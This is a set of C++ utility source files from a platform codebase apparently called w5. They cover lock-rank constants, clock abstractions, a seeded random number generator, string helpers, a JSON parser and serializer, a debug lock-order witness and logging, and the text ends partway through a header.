// acquisition order is fixed by the code itself (index order).
//
// The same numbers live in tools/w5flow_lock_order.txt — the documented
// registry the static analyzer (tools/w5flow.cpp, pass 2) checks the
// extracted lock-acquisition graph against — and w5flow cross-checks
// this header against that file, so the two cannot drift. The runtime
// witness (util/lock_witness.h, debug builds only) enforces the same
// ranks on every acquisition the test suite performs.
//
// Reading the order: low rank = outer lock (acquired first, held across
// calls into other subsystems), high rank = leaf (never held across a
// call that takes another lock). Gaps are room for future classes.
#pragma once

namespace w5::util::lockrank {

// -- Outer coordinators: held across whole store/WAL sweeps ------------------
inline constexpr int kDurableCheckpoint = 10;   // DurableStore::checkpoint_mutex_
inline constexpr int kDurableCompactor = 12;    // DurableStore::compactor_mutex_

// -- Federation: gather coordination, held across peer bookkeeping -----------
inline constexpr int kFedStragglers = 20;       // Metasearch::stragglers_mutex_
inline constexpr int kFedGather = 22;           // Gather::mutex (metasearch hops)
inline constexpr int kFedBreakers = 24;         // Node::breakers_mutex_

// -- Service planes: hold their own lock across calls into the store and
// -- the kernel ---------------------------------------------------------------
inline constexpr int kModuleRegistry = 28;      // ModuleRegistry::mutex_
inline constexpr int kSessionManager = 30;      // SessionManager::mutex_
inline constexpr int kPolicyStore = 32;         // PolicyStore::mutex_
inline constexpr int kDeclassifierRegistry = 34;  // DeclassifierRegistry::mutex_
inline constexpr int kDeclassifierRateWindow = 36;  // RateLimited::mutex_
inline constexpr int kSearchService = 38;       // SearchService::mutex_

// -- Store: planner/shards above the WAL (log-under-lock, DESIGN.md §13) -----
inline constexpr int kQueryGovernor = 40;       // QueryGovernor::mutex_
inline constexpr int kStoreIndexSpecs = 42;     // LabeledStore::specs_mutex_
inline constexpr int kStoreShard = 44;          // LabeledStore Shard::mutex ×16

// -- The DIFC reference monitor and its label plane. Leaf-ward of the OS
// -- services and the store: shards check labels under their shard lock,
// -- UserDirectory mints tags under its directory lock, FileSystem raises
// -- secrecy under its tree lock — so the kernel ranks ABOVE all of them,
// -- and the tag registry it consults under its own lock ranks higher
// -- still (order pinned empirically by the runtime witness) ------------------
inline constexpr int kUserDirectory = 46;       // UserDirectory::mutex_
inline constexpr int kFileSystem = 48;          // FileSystem::mutex_
inline constexpr int kKernel = 50;              // Kernel::mutex_
inline constexpr int kTagRegistry = 52;         // TagRegistry::mutex_
inline constexpr int kLabelTable = 54;          // LabelTable::mutex_
inline constexpr int kFlowCache = 56;           // FlowCache::mutex_

// -- Durability/audit leaves of the data plane -------------------------------
inline constexpr int kAuditLog = 58;            // AuditLog::mutex_
inline constexpr int kWal = 60;                 // WriteAheadLog::mutex_

// -- Execution substrate -----------------------------------------------------
inline constexpr int kThreadPoolJoin = 66;      // ThreadPool::join_mutex_
inline constexpr int kThreadPool = 68;          // ThreadPool::mutex_
inline constexpr int kResourceTree = 70;        // ResourceContainer::mutex_

// -- Net leaves (brief critical sections, no calls out) ----------------------
inline constexpr int kEventLoopMailbox = 74;    // Mailbox::mutex (event loop)
inline constexpr int kTcpClose = 76;            // TcpListener::close_mutex_
inline constexpr int kCircuitBreaker = 78;      // CircuitBreaker::mutex_
inline constexpr int kFileFault = 80;           // FileFaultPlan State::mutex

// -- Telemetry leaves: reachable from under any subsystem lock ---------------
inline constexpr int kTraceSlot = 84;           // TraceBuffer::slot_mutexes_ ×N
inline constexpr int kTraceEvicted = 86;        // TraceBuffer::evicted_mutex_
inline constexpr int kFlightRecorder = 88;      // FlightRecorder::mutex_
inline constexpr int kNetTraceProvider = 90;    // tracing::g_provider_mutex
inline constexpr int kMetricsRegistry = 94;     // MetricsRegistry::mutex_
inline constexpr int kMetricsExemplar = 96;     // Histogram::exemplar_mutex_
inline constexpr int kLog = 98;                 // log::g_mutex

}  // namespace w5::util::lockrank
