// Time sources. Platform code takes a Clock& so tests and benches can run
// against SimClock (manually advanced, deterministic) while examples and the
// TCP server use WallClock.
#pragma once

#include <chrono>
#include <cstdint>

namespace w5::util {

// Monotonic microseconds since an arbitrary epoch.
using Micros = std::int64_t;

class Clock {
 public:
  virtual ~Clock() = default;
  virtual Micros now() const = 0;
};

class WallClock final : public Clock {
 public:
  Micros now() const override {
    return std::chrono::duration_cast<std::chrono::microseconds>(
               std::chrono::steady_clock::now().time_since_epoch())
        .count();
  }
};

class SimClock final : public Clock {
 public:
  Micros now() const override { return now_; }
  void advance(Micros delta) { now_ += delta; }
  void set(Micros t) { now_ = t; }

 private:
  Micros now_ = 0;
};

}  // namespace w5::util
