// Time sources. Platform code takes a Clock& so tests and benches can run
// against SimClock (manually advanced, deterministic) while examples and the
// TCP server use WallClock.
#pragma once

#include <chrono>
#include <cstdint>

namespace w5::util {

// Monotonic microseconds since an arbitrary epoch.
using Micros = std::int64_t;

class Clock {
 public:
  virtual ~Clock() = default;
  virtual Micros now() const = 0;
};

class WallClock final : public Clock {
 public:
  Micros now() const override {
    return std::chrono::duration_cast<std::chrono::microseconds>(
               std::chrono::steady_clock::now().time_since_epoch())
        .count();
  }
};

// Raw cycle counter for span timing on the request hot path: reading the
// TSC costs a few nanoseconds where steady_clock::now() costs ~30. The
// frequency is unknown here — callers convert cycle deltas to micros
// using two bracketing Clock reads (see RequestContext::finish).
inline std::uint64_t cycle_count() {
#if defined(__x86_64__) || defined(_M_X64)
  return __builtin_ia32_rdtsc();
#else
  return static_cast<std::uint64_t>(
      std::chrono::steady_clock::now().time_since_epoch().count());
#endif
}

class SimClock final : public Clock {
 public:
  Micros now() const override { return now_; }
  void advance(Micros delta) { now_ += delta; }
  void set(Micros t) { now_ = t; }

 private:
  Micros now_ = 0;
};

}  // namespace w5::util
