#include "util/rng.h"

#include <algorithm>
#include <bit>
#include <cassert>
#include <cmath>

namespace w5::util {

namespace {

std::uint64_t splitmix64(std::uint64_t& x) {
  x += 0x9e3779b97f4a7c15ULL;
  std::uint64_t z = x;
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
  return z ^ (z >> 31);
}

}  // namespace

Rng::Rng(std::uint64_t seed) {
  std::uint64_t x = seed;
  for (auto& s : s_) s = splitmix64(x);
}

std::uint64_t Rng::next_u64() {
  // xoshiro256** by Blackman & Vigna (public domain reference algorithm).
  const std::uint64_t result = std::rotl(s_[1] * 5, 7) * 9;
  const std::uint64_t t = s_[1] << 17;
  s_[2] ^= s_[0];
  s_[3] ^= s_[1];
  s_[1] ^= s_[2];
  s_[0] ^= s_[3];
  s_[2] ^= t;
  s_[3] = std::rotl(s_[3], 45);
  return result;
}

std::uint64_t Rng::next_below(std::uint64_t bound) {
  assert(bound > 0);
  // Lemire's multiply-shift with rejection for exact uniformity.
  std::uint64_t x = next_u64();
  __uint128_t m = static_cast<__uint128_t>(x) * bound;
  auto lo = static_cast<std::uint64_t>(m);
  if (lo < bound) {
    const std::uint64_t threshold = -bound % bound;
    while (lo < threshold) {
      x = next_u64();
      m = static_cast<__uint128_t>(x) * bound;
      lo = static_cast<std::uint64_t>(m);
    }
  }
  return static_cast<std::uint64_t>(m >> 64);
}

std::int64_t Rng::next_range(std::int64_t lo, std::int64_t hi) {
  assert(lo <= hi);
  const auto span =
      static_cast<std::uint64_t>(hi) - static_cast<std::uint64_t>(lo) + 1;
  return lo + static_cast<std::int64_t>(span == 0 ? next_u64()
                                                  : next_below(span));
}

double Rng::next_double() {
  return static_cast<double>(next_u64() >> 11) * 0x1.0p-53;
}

bool Rng::next_bool(double probability_true) {
  return next_double() < probability_true;
}

std::string Rng::next_string(std::size_t length) {
  static constexpr char kAlphabet[] = "abcdefghijklmnopqrstuvwxyz0123456789";
  std::string out(length, '\0');
  for (auto& c : out) c = kAlphabet[next_below(sizeof(kAlphabet) - 1)];
  return out;
}

std::string Rng::next_bytes(std::size_t length) {
  std::string out(length, '\0');
  for (auto& c : out) c = static_cast<char>(next_below(256));
  return out;
}

ZipfGenerator::ZipfGenerator(std::size_t n, double skew, std::uint64_t seed)
    : rng_(seed), cdf_(n) {
  assert(n > 0);
  double sum = 0;
  for (std::size_t i = 0; i < n; ++i) {
    sum += 1.0 / std::pow(static_cast<double>(i + 1), skew);
    cdf_[i] = sum;
  }
  for (auto& c : cdf_) c /= sum;
}

std::size_t ZipfGenerator::next() {
  const double u = rng_.next_double();
  const auto it = std::lower_bound(cdf_.begin(), cdf_.end(), u);
  return static_cast<std::size_t>(std::distance(cdf_.begin(), it));
}

}  // namespace w5::util
