#include "util/strings.h"

#include <algorithm>
#include <cctype>

namespace w5::util {

std::vector<std::string> split(std::string_view s, char sep) {
  std::vector<std::string> out;
  std::size_t start = 0;
  while (true) {
    const std::size_t pos = s.find(sep, start);
    if (pos == std::string_view::npos) {
      out.emplace_back(s.substr(start));
      return out;
    }
    out.emplace_back(s.substr(start, pos - start));
    start = pos + 1;
  }
}

std::vector<std::string> split_nonempty(std::string_view s, char sep) {
  std::vector<std::string> out;
  for (auto& piece : split(s, sep))
    if (!piece.empty()) out.push_back(std::move(piece));
  return out;
}

std::string_view trim(std::string_view s) {
  const auto is_space = [](char c) {
    return c == ' ' || c == '\t' || c == '\r' || c == '\n';
  };
  while (!s.empty() && is_space(s.front())) s.remove_prefix(1);
  while (!s.empty() && is_space(s.back())) s.remove_suffix(1);
  return s;
}

std::string to_lower(std::string_view s) {
  std::string out(s);
  std::transform(out.begin(), out.end(), out.begin(), [](unsigned char c) {
    return static_cast<char>(std::tolower(c));
  });
  return out;
}

bool iequals(std::string_view a, std::string_view b) {
  if (a.size() != b.size()) return false;
  for (std::size_t i = 0; i < a.size(); ++i) {
    if (std::tolower(static_cast<unsigned char>(a[i])) !=
        std::tolower(static_cast<unsigned char>(b[i])))
      return false;
  }
  return true;
}

bool starts_with(std::string_view s, std::string_view prefix) {
  return s.substr(0, prefix.size()) == prefix;
}

bool ends_with(std::string_view s, std::string_view suffix) {
  return s.size() >= suffix.size() &&
         s.substr(s.size() - suffix.size()) == suffix;
}

std::string join(const std::vector<std::string>& parts,
                 std::string_view sep) {
  std::string out;
  for (std::size_t i = 0; i < parts.size(); ++i) {
    if (i > 0) out.append(sep);
    out.append(parts[i]);
  }
  return out;
}

std::optional<std::int64_t> parse_i64(std::string_view s) {
  if (s.empty()) return std::nullopt;
  bool negative = false;
  std::size_t i = 0;
  if (s[0] == '-' || s[0] == '+') {
    negative = s[0] == '-';
    i = 1;
    if (s.size() == 1) return std::nullopt;
  }
  std::int64_t value = 0;
  for (; i < s.size(); ++i) {
    if (s[i] < '0' || s[i] > '9') return std::nullopt;
    const int digit = s[i] - '0';
    if (value > (INT64_MAX - digit) / 10) return std::nullopt;  // overflow
    value = value * 10 + digit;
  }
  return negative ? -value : value;
}

std::optional<std::uint64_t> parse_u64(std::string_view s) {
  if (s.empty()) return std::nullopt;
  std::uint64_t value = 0;
  for (char c : s) {
    if (c < '0' || c > '9') return std::nullopt;
    const unsigned digit = static_cast<unsigned>(c - '0');
    if (value > (UINT64_MAX - digit) / 10) return std::nullopt;
    value = value * 10 + digit;
  }
  return value;
}

std::string replace_all(std::string_view s, std::string_view from,
                        std::string_view to) {
  if (from.empty()) return std::string(s);
  std::string out;
  std::size_t start = 0;
  while (true) {
    const std::size_t pos = s.find(from, start);
    if (pos == std::string_view::npos) {
      out.append(s.substr(start));
      return out;
    }
    out.append(s.substr(start, pos - start));
    out.append(to);
    start = pos + from.size();
  }
}

}  // namespace w5::util
