#include "util/json.h"

#include <cmath>
#include <cstdio>

namespace w5::util {

namespace {

const std::string kEmptyString;
const JsonArray kEmptyArray;
const JsonObject kEmptyObject;
const Json kNullJson;

}  // namespace

Json::Json(JsonArray a)
    : type_(Type::kArray), array_(std::make_shared<JsonArray>(std::move(a))) {}

Json::Json(JsonObject o)
    : type_(Type::kObject),
      object_(std::make_shared<JsonObject>(std::move(o))) {}

Json Json::array(std::initializer_list<Json> items) {
  return Json(JsonArray(items));
}

Json Json::object(
    std::initializer_list<std::pair<const std::string, Json>> members) {
  return Json(JsonObject(members));
}

bool Json::as_bool(bool fallback) const {
  return is_bool() ? bool_ : fallback;
}

double Json::as_number(double fallback) const {
  return is_number() ? number_ : fallback;
}

std::int64_t Json::as_int(std::int64_t fallback) const {
  return is_number() ? static_cast<std::int64_t>(number_) : fallback;
}

const std::string& Json::as_string() const {
  return is_string() ? string_ : kEmptyString;
}

const JsonArray& Json::as_array() const {
  return is_array() && array_ ? *array_ : kEmptyArray;
}

const JsonObject& Json::as_object() const {
  return is_object() && object_ ? *object_ : kEmptyObject;
}

JsonArray& Json::mutable_array() {
  if (!is_array() || !array_) {
    type_ = Type::kArray;
    array_ = std::make_shared<JsonArray>();
  } else if (array_.use_count() > 1) {
    array_ = std::make_shared<JsonArray>(*array_);  // copy-on-write
  }
  return *array_;
}

JsonObject& Json::mutable_object() {
  if (!is_object() || !object_) {
    type_ = Type::kObject;
    object_ = std::make_shared<JsonObject>();
  } else if (object_.use_count() > 1) {
    object_ = std::make_shared<JsonObject>(*object_);
  }
  return *object_;
}

const Json& Json::at(std::string_view key) const {
  if (!is_object() || !object_) return kNullJson;
  const auto it = object_->find(std::string(key));
  return it == object_->end() ? kNullJson : it->second;
}

bool Json::contains(std::string_view key) const {
  return is_object() && object_ &&
         object_->find(std::string(key)) != object_->end();
}

Json& Json::operator[](const std::string& key) {
  return mutable_object()[key];
}

void Json::push_back(Json value) {
  mutable_array().push_back(std::move(value));
}

bool operator==(const Json& a, const Json& b) {
  if (a.type_ != b.type_) return false;
  switch (a.type_) {
    case Json::Type::kNull:
      return true;
    case Json::Type::kBool:
      return a.bool_ == b.bool_;
    case Json::Type::kNumber:
      return a.number_ == b.number_;
    case Json::Type::kString:
      return a.string_ == b.string_;
    case Json::Type::kArray:
      return a.as_array() == b.as_array();
    case Json::Type::kObject:
      return a.as_object() == b.as_object();
  }
  return false;
}

void json_escape(std::string_view s, std::string& out) {
  out.push_back('"');
  for (char c : s) {
    switch (c) {
      case '"':
        out.append("\\\"");
        break;
      case '\\':
        out.append("\\\\");
        break;
      case '\n':
        out.append("\\n");
        break;
      case '\r':
        out.append("\\r");
        break;
      case '\t':
        out.append("\\t");
        break;
      case '\b':
        out.append("\\b");
        break;
      case '\f':
        out.append("\\f");
        break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\u%04x", c);
          out.append(buf);
        } else {
          out.push_back(c);
        }
    }
  }
  out.push_back('"');
}

namespace {

void append_number(double n, std::string& out) {
  if (std::isfinite(n) && n == std::floor(n) &&
      std::abs(n) < 9.0e15) {  // integral, exactly representable
    char buf[32];
    std::snprintf(buf, sizeof(buf), "%lld", static_cast<long long>(n));
    out.append(buf);
  } else if (std::isfinite(n)) {
    char buf[32];
    std::snprintf(buf, sizeof(buf), "%.17g", n);
    out.append(buf);
  } else {
    out.append("null");  // JSON has no NaN/Inf
  }
}

}  // namespace

void Json::dump_to(std::string& out, bool pretty, int indent) const {
  const auto newline_indent = [&](int level) {
    if (!pretty) return;
    out.push_back('\n');
    out.append(static_cast<std::size_t>(level) * 2, ' ');
  };
  switch (type_) {
    case Type::kNull:
      out.append("null");
      break;
    case Type::kBool:
      out.append(bool_ ? "true" : "false");
      break;
    case Type::kNumber:
      append_number(number_, out);
      break;
    case Type::kString:
      json_escape(string_, out);
      break;
    case Type::kArray: {
      const auto& a = as_array();
      if (a.empty()) {
        out.append("[]");
        break;
      }
      out.push_back('[');
      for (std::size_t i = 0; i < a.size(); ++i) {
        if (i > 0) out.push_back(',');
        newline_indent(indent + 1);
        a[i].dump_to(out, pretty, indent + 1);
      }
      newline_indent(indent);
      out.push_back(']');
      break;
    }
    case Type::kObject: {
      const auto& o = as_object();
      if (o.empty()) {
        out.append("{}");
        break;
      }
      out.push_back('{');
      bool first = true;
      for (const auto& [key, value] : o) {
        if (!first) out.push_back(',');
        first = false;
        newline_indent(indent + 1);
        json_escape(key, out);
        out.push_back(':');
        if (pretty) out.push_back(' ');
        value.dump_to(out, pretty, indent + 1);
      }
      newline_indent(indent);
      out.push_back('}');
      break;
    }
  }
}

std::string Json::dump(bool pretty) const {
  std::string out;
  dump_to(out, pretty, 0);
  return out;
}

namespace {

constexpr int kMaxParseDepth = 192;  // bounds recursion on hostile input

class Parser {
 public:
  explicit Parser(std::string_view text) : text_(text) {}

  Result<Json> parse() {
    skip_ws();
    auto value = parse_value();
    if (!value.ok()) return value;
    skip_ws();
    if (pos_ != text_.size())
      return fail("trailing characters after JSON value");
    return value;
  }

 private:
  Error fail(std::string why) const {
    return make_error("json.parse",
                      why + " at offset " + std::to_string(pos_));
  }

  void skip_ws() {
    while (pos_ < text_.size()) {
      const char c = text_[pos_];
      if (c == ' ' || c == '\t' || c == '\n' || c == '\r')
        ++pos_;
      else
        break;
    }
  }

  bool eof() const { return pos_ >= text_.size(); }
  char peek() const { return text_[pos_]; }

  bool consume(std::string_view literal) {
    if (text_.substr(pos_, literal.size()) != literal) return false;
    pos_ += literal.size();
    return true;
  }

  Result<Json> parse_value() {
    if (depth_ > kMaxParseDepth) return fail("nesting too deep");
    if (eof()) return fail("unexpected end of input");
    switch (peek()) {
      case 'n':
        if (consume("null")) return Json(nullptr);
        return fail("bad literal");
      case 't':
        if (consume("true")) return Json(true);
        return fail("bad literal");
      case 'f':
        if (consume("false")) return Json(false);
        return fail("bad literal");
      case '"':
        return parse_string().map([](std::string s) { return Json(std::move(s)); });
      case '[':
        return parse_array();
      case '{':
        return parse_object();
      default:
        return parse_number();
    }
  }

  Result<std::string> parse_string() {
    ++pos_;  // opening quote
    std::string out;
    while (true) {
      if (eof()) return Error(fail("unterminated string"));
      const char c = text_[pos_++];
      if (c == '"') return out;
      if (static_cast<unsigned char>(c) < 0x20)
        return Error(fail("raw control character in string"));
      if (c != '\\') {
        out.push_back(c);
        continue;
      }
      if (eof()) return Error(fail("dangling escape"));
      const char e = text_[pos_++];
      switch (e) {
        case '"': out.push_back('"'); break;
        case '\\': out.push_back('\\'); break;
        case '/': out.push_back('/'); break;
        case 'n': out.push_back('\n'); break;
        case 't': out.push_back('\t'); break;
        case 'r': out.push_back('\r'); break;
        case 'b': out.push_back('\b'); break;
        case 'f': out.push_back('\f'); break;
        case 'u': {
          auto cp = parse_hex4();
          if (!cp.ok()) return cp.error();
          append_utf8(cp.value(), out);
          break;
        }
        default:
          return Error(fail("unknown escape"));
      }
    }
  }

  Result<unsigned> parse_hex4() {
    if (pos_ + 4 > text_.size()) return Error(fail("truncated \\u escape"));
    unsigned value = 0;
    for (int i = 0; i < 4; ++i) {
      const char c = text_[pos_++];
      value <<= 4;
      if (c >= '0' && c <= '9')
        value |= static_cast<unsigned>(c - '0');
      else if (c >= 'a' && c <= 'f')
        value |= static_cast<unsigned>(c - 'a' + 10);
      else if (c >= 'A' && c <= 'F')
        value |= static_cast<unsigned>(c - 'A' + 10);
      else
        return Error(fail("bad hex digit in \\u escape"));
    }
    return value;
  }

  static void append_utf8(unsigned cp, std::string& out) {
    if (cp < 0x80) {
      out.push_back(static_cast<char>(cp));
    } else if (cp < 0x800) {
      out.push_back(static_cast<char>(0xc0 | (cp >> 6)));
      out.push_back(static_cast<char>(0x80 | (cp & 0x3f)));
    } else {
      out.push_back(static_cast<char>(0xe0 | (cp >> 12)));
      out.push_back(static_cast<char>(0x80 | ((cp >> 6) & 0x3f)));
      out.push_back(static_cast<char>(0x80 | (cp & 0x3f)));
    }
  }

  Result<Json> parse_number() {
    const std::size_t start = pos_;
    if (!eof() && peek() == '-') ++pos_;
    while (!eof() && ((peek() >= '0' && peek() <= '9') || peek() == '.' ||
                      peek() == 'e' || peek() == 'E' || peek() == '+' ||
                      peek() == '-'))
      ++pos_;
    if (pos_ == start) return fail("expected a value");
    const std::string token(text_.substr(start, pos_ - start));
    char* end = nullptr;
    const double value = std::strtod(token.c_str(), &end);
    if (end != token.c_str() + token.size()) return fail("malformed number");
    return Json(value);
  }

  Result<Json> parse_array() {
    ++depth_;
    struct DepthGuard {
      int& depth;
      ~DepthGuard() { --depth; }
    } guard{depth_};
    ++pos_;  // '['
    JsonArray items;
    skip_ws();
    if (!eof() && peek() == ']') {
      ++pos_;
      return Json(std::move(items));
    }
    while (true) {
      skip_ws();
      auto value = parse_value();
      if (!value.ok()) return value;
      items.push_back(std::move(value).value());
      skip_ws();
      if (eof()) return fail("unterminated array");
      const char c = text_[pos_++];
      if (c == ']') return Json(std::move(items));
      if (c != ',') return fail("expected ',' or ']' in array");
    }
  }

  Result<Json> parse_object() {
    ++depth_;
    struct DepthGuard {
      int& depth;
      ~DepthGuard() { --depth; }
    } guard{depth_};
    ++pos_;  // '{'
    JsonObject members;
    skip_ws();
    if (!eof() && peek() == '}') {
      ++pos_;
      return Json(std::move(members));
    }
    while (true) {
      skip_ws();
      if (eof() || peek() != '"') return fail("expected object key");
      auto key = parse_string();
      if (!key.ok()) return key.error();
      skip_ws();
      if (eof() || text_[pos_++] != ':') return fail("expected ':'");
      skip_ws();
      auto value = parse_value();
      if (!value.ok()) return value;
      members[std::move(key).value()] = std::move(value).value();
      skip_ws();
      if (eof()) return fail("unterminated object");
      const char c = text_[pos_++];
      if (c == '}') return Json(std::move(members));
      if (c != ',') return fail("expected ',' or '}' in object");
    }
  }

  std::string_view text_;
  std::size_t pos_ = 0;
  int depth_ = 0;
};

}  // namespace

Result<Json> Json::parse(std::string_view text) {
  return Parser(text).parse();
}

}  // namespace w5::util
