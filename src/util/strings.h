// String helpers shared across the codebase.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

namespace w5::util {

std::vector<std::string> split(std::string_view s, char sep);

// Like split but drops empty pieces ("a//b" -> {"a","b"}).
std::vector<std::string> split_nonempty(std::string_view s, char sep);

std::string_view trim(std::string_view s);

std::string to_lower(std::string_view s);

bool iequals(std::string_view a, std::string_view b);

bool starts_with(std::string_view s, std::string_view prefix);
bool ends_with(std::string_view s, std::string_view suffix);

std::string join(const std::vector<std::string>& parts, std::string_view sep);

// Strict decimal parse of the whole string; rejects sign for uint.
std::optional<std::int64_t> parse_i64(std::string_view s);
std::optional<std::uint64_t> parse_u64(std::string_view s);

// Replaces every occurrence of `from` (non-empty) with `to`.
std::string replace_all(std::string_view s, std::string_view from,
                        std::string_view to);

}  // namespace w5::util
