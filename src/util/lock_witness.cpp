#include "util/lock_witness.h"

#if defined(W5_LOCK_WITNESS)

#include <cstdio>
#include <cstdlib>

namespace w5::util::witness {

namespace {

// Deep enough for the worst legitimate nesting in the tree: the
// load_json shard sweep holds all 16 shard locks plus the WAL and a
// telemetry leaf. Overflow means a new pattern the registry (and this
// bound) must be taught about, so it aborts rather than dropping holds.
constexpr std::size_t kMaxHeld = 32;

struct Held {
  const void* mu;
  int rank;
  const char* name;
};

thread_local Held t_held[kMaxHeld];
thread_local std::size_t t_count = 0;

[[noreturn]] void die(const char* what, int rank, const char* name) {
  std::fprintf(stderr,
               "w5 lock witness: %s acquiring \"%s\" (rank %d); held stack:\n",
               what, name, rank);
  for (std::size_t i = 0; i < t_count; ++i) {
    std::fprintf(stderr, "  [%zu] \"%s\" (rank %d)\n", i, t_held[i].name,
                 t_held[i].rank);
  }
  std::fprintf(stderr,
               "w5 lock witness: declared order is tools/w5flow_lock_order.txt"
               " (DESIGN.md \xC2\xA7" "19)\n");
  std::abort();
}

}  // namespace

void acquire(const void* mu, int rank, const char* name) {
  if (rank == 0) return;  // unranked: invisible to the witness
  int held_max = 0;
  for (std::size_t i = 0; i < t_count; ++i) {
    if (t_held[i].rank > held_max) held_max = t_held[i].rank;
  }
  if (rank < held_max) die("rank inversion", rank, name);
  if (t_count >= kMaxHeld) die("held-stack overflow", rank, name);
  t_held[t_count++] = Held{mu, rank, name};
}

void release(const void* mu) {
  // Scan from the top: the matching hold is almost always the newest,
  // but early-unlock guards may release out of order.
  for (std::size_t i = t_count; i-- > 0;) {
    if (t_held[i].mu == mu) {
      for (std::size_t j = i + 1; j < t_count; ++j) t_held[j - 1] = t_held[j];
      --t_count;
      return;
    }
  }
  // Never recorded (rank 0, or a try_lock hold): nothing to forget.
}

std::size_t held_depth() { return t_count; }

}  // namespace w5::util::witness

#endif  // W5_LOCK_WITNESS
