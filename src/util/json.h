// A small JSON implementation (RFC 8259 subset: UTF-8 passthrough, \uXXXX
// escapes decoded for the BMP). Used for the platform's HTTP API bodies,
// policy documents, the federation wire protocol, and store snapshots.
#pragma once

#include <cstdint>
#include <initializer_list>
#include <map>
#include <memory>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "util/result.h"

namespace w5::util {

class Json;

using JsonArray = std::vector<Json>;
// std::map keeps keys ordered, which makes serialization deterministic —
// snapshots and federation digests rely on byte-stable encodings.
using JsonObject = std::map<std::string, Json>;

class Json {
 public:
  enum class Type { kNull, kBool, kNumber, kString, kArray, kObject };

  Json() : type_(Type::kNull) {}
  Json(std::nullptr_t) : type_(Type::kNull) {}
  Json(bool b) : type_(Type::kBool), bool_(b) {}
  Json(int n) : type_(Type::kNumber), number_(n) {}
  Json(std::int64_t n) : type_(Type::kNumber), number_(static_cast<double>(n)) {}
  Json(std::uint64_t n) : type_(Type::kNumber), number_(static_cast<double>(n)) {}
  Json(double n) : type_(Type::kNumber), number_(n) {}
  Json(const char* s) : type_(Type::kString), string_(s) {}
  Json(std::string s) : type_(Type::kString), string_(std::move(s)) {}
  Json(std::string_view s) : type_(Type::kString), string_(s) {}
  Json(JsonArray a);
  Json(JsonObject o);

  static Json array(std::initializer_list<Json> items = {});
  static Json object(
      std::initializer_list<std::pair<const std::string, Json>> members = {});

  Type type() const noexcept { return type_; }
  bool is_null() const noexcept { return type_ == Type::kNull; }
  bool is_bool() const noexcept { return type_ == Type::kBool; }
  bool is_number() const noexcept { return type_ == Type::kNumber; }
  bool is_string() const noexcept { return type_ == Type::kString; }
  bool is_array() const noexcept { return type_ == Type::kArray; }
  bool is_object() const noexcept { return type_ == Type::kObject; }

  // Typed accessors; wrong-type access returns a neutral default, keeping
  // call sites terse when handling untrusted input.
  bool as_bool(bool fallback = false) const;
  double as_number(double fallback = 0) const;
  std::int64_t as_int(std::int64_t fallback = 0) const;
  const std::string& as_string() const;
  const JsonArray& as_array() const;
  const JsonObject& as_object() const;
  JsonArray& mutable_array();
  JsonObject& mutable_object();

  // Object member lookup; returns null Json when absent or not an object.
  const Json& at(std::string_view key) const;
  bool contains(std::string_view key) const;
  Json& operator[](const std::string& key);  // makes this an object

  void push_back(Json value);  // makes this an array

  std::string dump(bool pretty = false) const;

  static Result<Json> parse(std::string_view text);

  friend bool operator==(const Json& a, const Json& b);

 private:
  void dump_to(std::string& out, bool pretty, int indent) const;

  Type type_;
  bool bool_ = false;
  double number_ = 0;
  std::string string_;
  std::shared_ptr<JsonArray> array_;    // shared for cheap value copies
  std::shared_ptr<JsonObject> object_;
};

// Appends a JSON string literal (with escaping) to out.
void json_escape(std::string_view s, std::string& out);

}  // namespace w5::util
