#include "util/log.h"

#include <iostream>
#include <mutex>

#include "util/thread_annotations.h"
#include "util/json.h"
#include "util/lock_ranks.h"

namespace w5::util {

namespace {

Mutex g_mutex{lockrank::kLog, "log::g_mutex"};
LogLevel g_threshold W5_GUARDED_BY(g_mutex) = LogLevel::kWarn;

void default_sink(LogLevel level, std::string_view message) {
  std::cerr << "[" << to_string(level) << "] " << message << "\n";
}

LogSink& sink_storage() {
  static LogSink sink = default_sink;
  return sink;
}

}  // namespace

std::string_view to_string(LogLevel level) {
  switch (level) {
    case LogLevel::kDebug:
      return "debug";
    case LogLevel::kInfo:
      return "info";
    case LogLevel::kWarn:
      return "warn";
    case LogLevel::kError:
      return "error";
  }
  return "unknown";
}

LogSink set_log_sink(LogSink sink) {
  const MutexLock lock(g_mutex);
  auto previous = std::move(sink_storage());
  sink_storage() = std::move(sink);
  return previous;
}

void set_log_threshold(LogLevel level) {
  const MutexLock lock(g_mutex);
  g_threshold = level;
}

void log(LogLevel level, std::string_view message) {
  const MutexLock lock(g_mutex);
  if (level < g_threshold) return;
  if (sink_storage()) sink_storage()(level, message);
}

LogSink make_json_sink(std::ostream& out) {
  return [&out](LogLevel level, std::string_view message) {
    // Callers already hold g_mutex (log() serializes sink invocations),
    // so lines never interleave.
    // json_escape emits the surrounding quotes itself.
    std::string line = "{\"level\":";
    json_escape(to_string(level), line);
    line += ",\"trace\":";
    json_escape(thread_trace_id(), line);
    line += ",\"message\":";
    json_escape(message, line);
    line += "}\n";
    out << line;
  };
}

namespace {
thread_local const std::string* t_trace_ref = nullptr;
}  // namespace

void set_thread_trace_ref(const std::string* id) { t_trace_ref = id; }

const std::string& thread_trace_id() {
  static const std::string empty;
  return t_trace_ref != nullptr ? *t_trace_ref : empty;
}

}  // namespace w5::util
