// Deterministic random number generation for reproducible experiments.
//
// All workload generators in bench/ and tests/ draw from SplitMix64-seeded
// xoshiro256**, so a fixed seed regenerates the identical workload on every
// run — a requirement for the experiment harness (DESIGN.md §5).
#pragma once

#include <cstdint>
#include <string>
#include <vector>

namespace w5::util {

class Rng {
 public:
  explicit Rng(std::uint64_t seed = 0x5757575757575757ULL);

  std::uint64_t next_u64();

  // Uniform in [0, bound) via Lemire's method; bound must be > 0.
  std::uint64_t next_below(std::uint64_t bound);

  // Uniform in [lo, hi] inclusive.
  std::int64_t next_range(std::int64_t lo, std::int64_t hi);

  // Uniform in [0, 1).
  double next_double();

  bool next_bool(double probability_true = 0.5);

  // Lowercase alphanumeric string of the given length.
  std::string next_string(std::size_t length);

  // Random raw bytes.
  std::string next_bytes(std::size_t length);

  // Shuffle in place (Fisher-Yates).
  template <typename T>
  void shuffle(std::vector<T>& v) {
    for (std::size_t i = v.size(); i > 1; --i) {
      using std::swap;
      swap(v[i - 1], v[next_below(i)]);
    }
  }

 private:
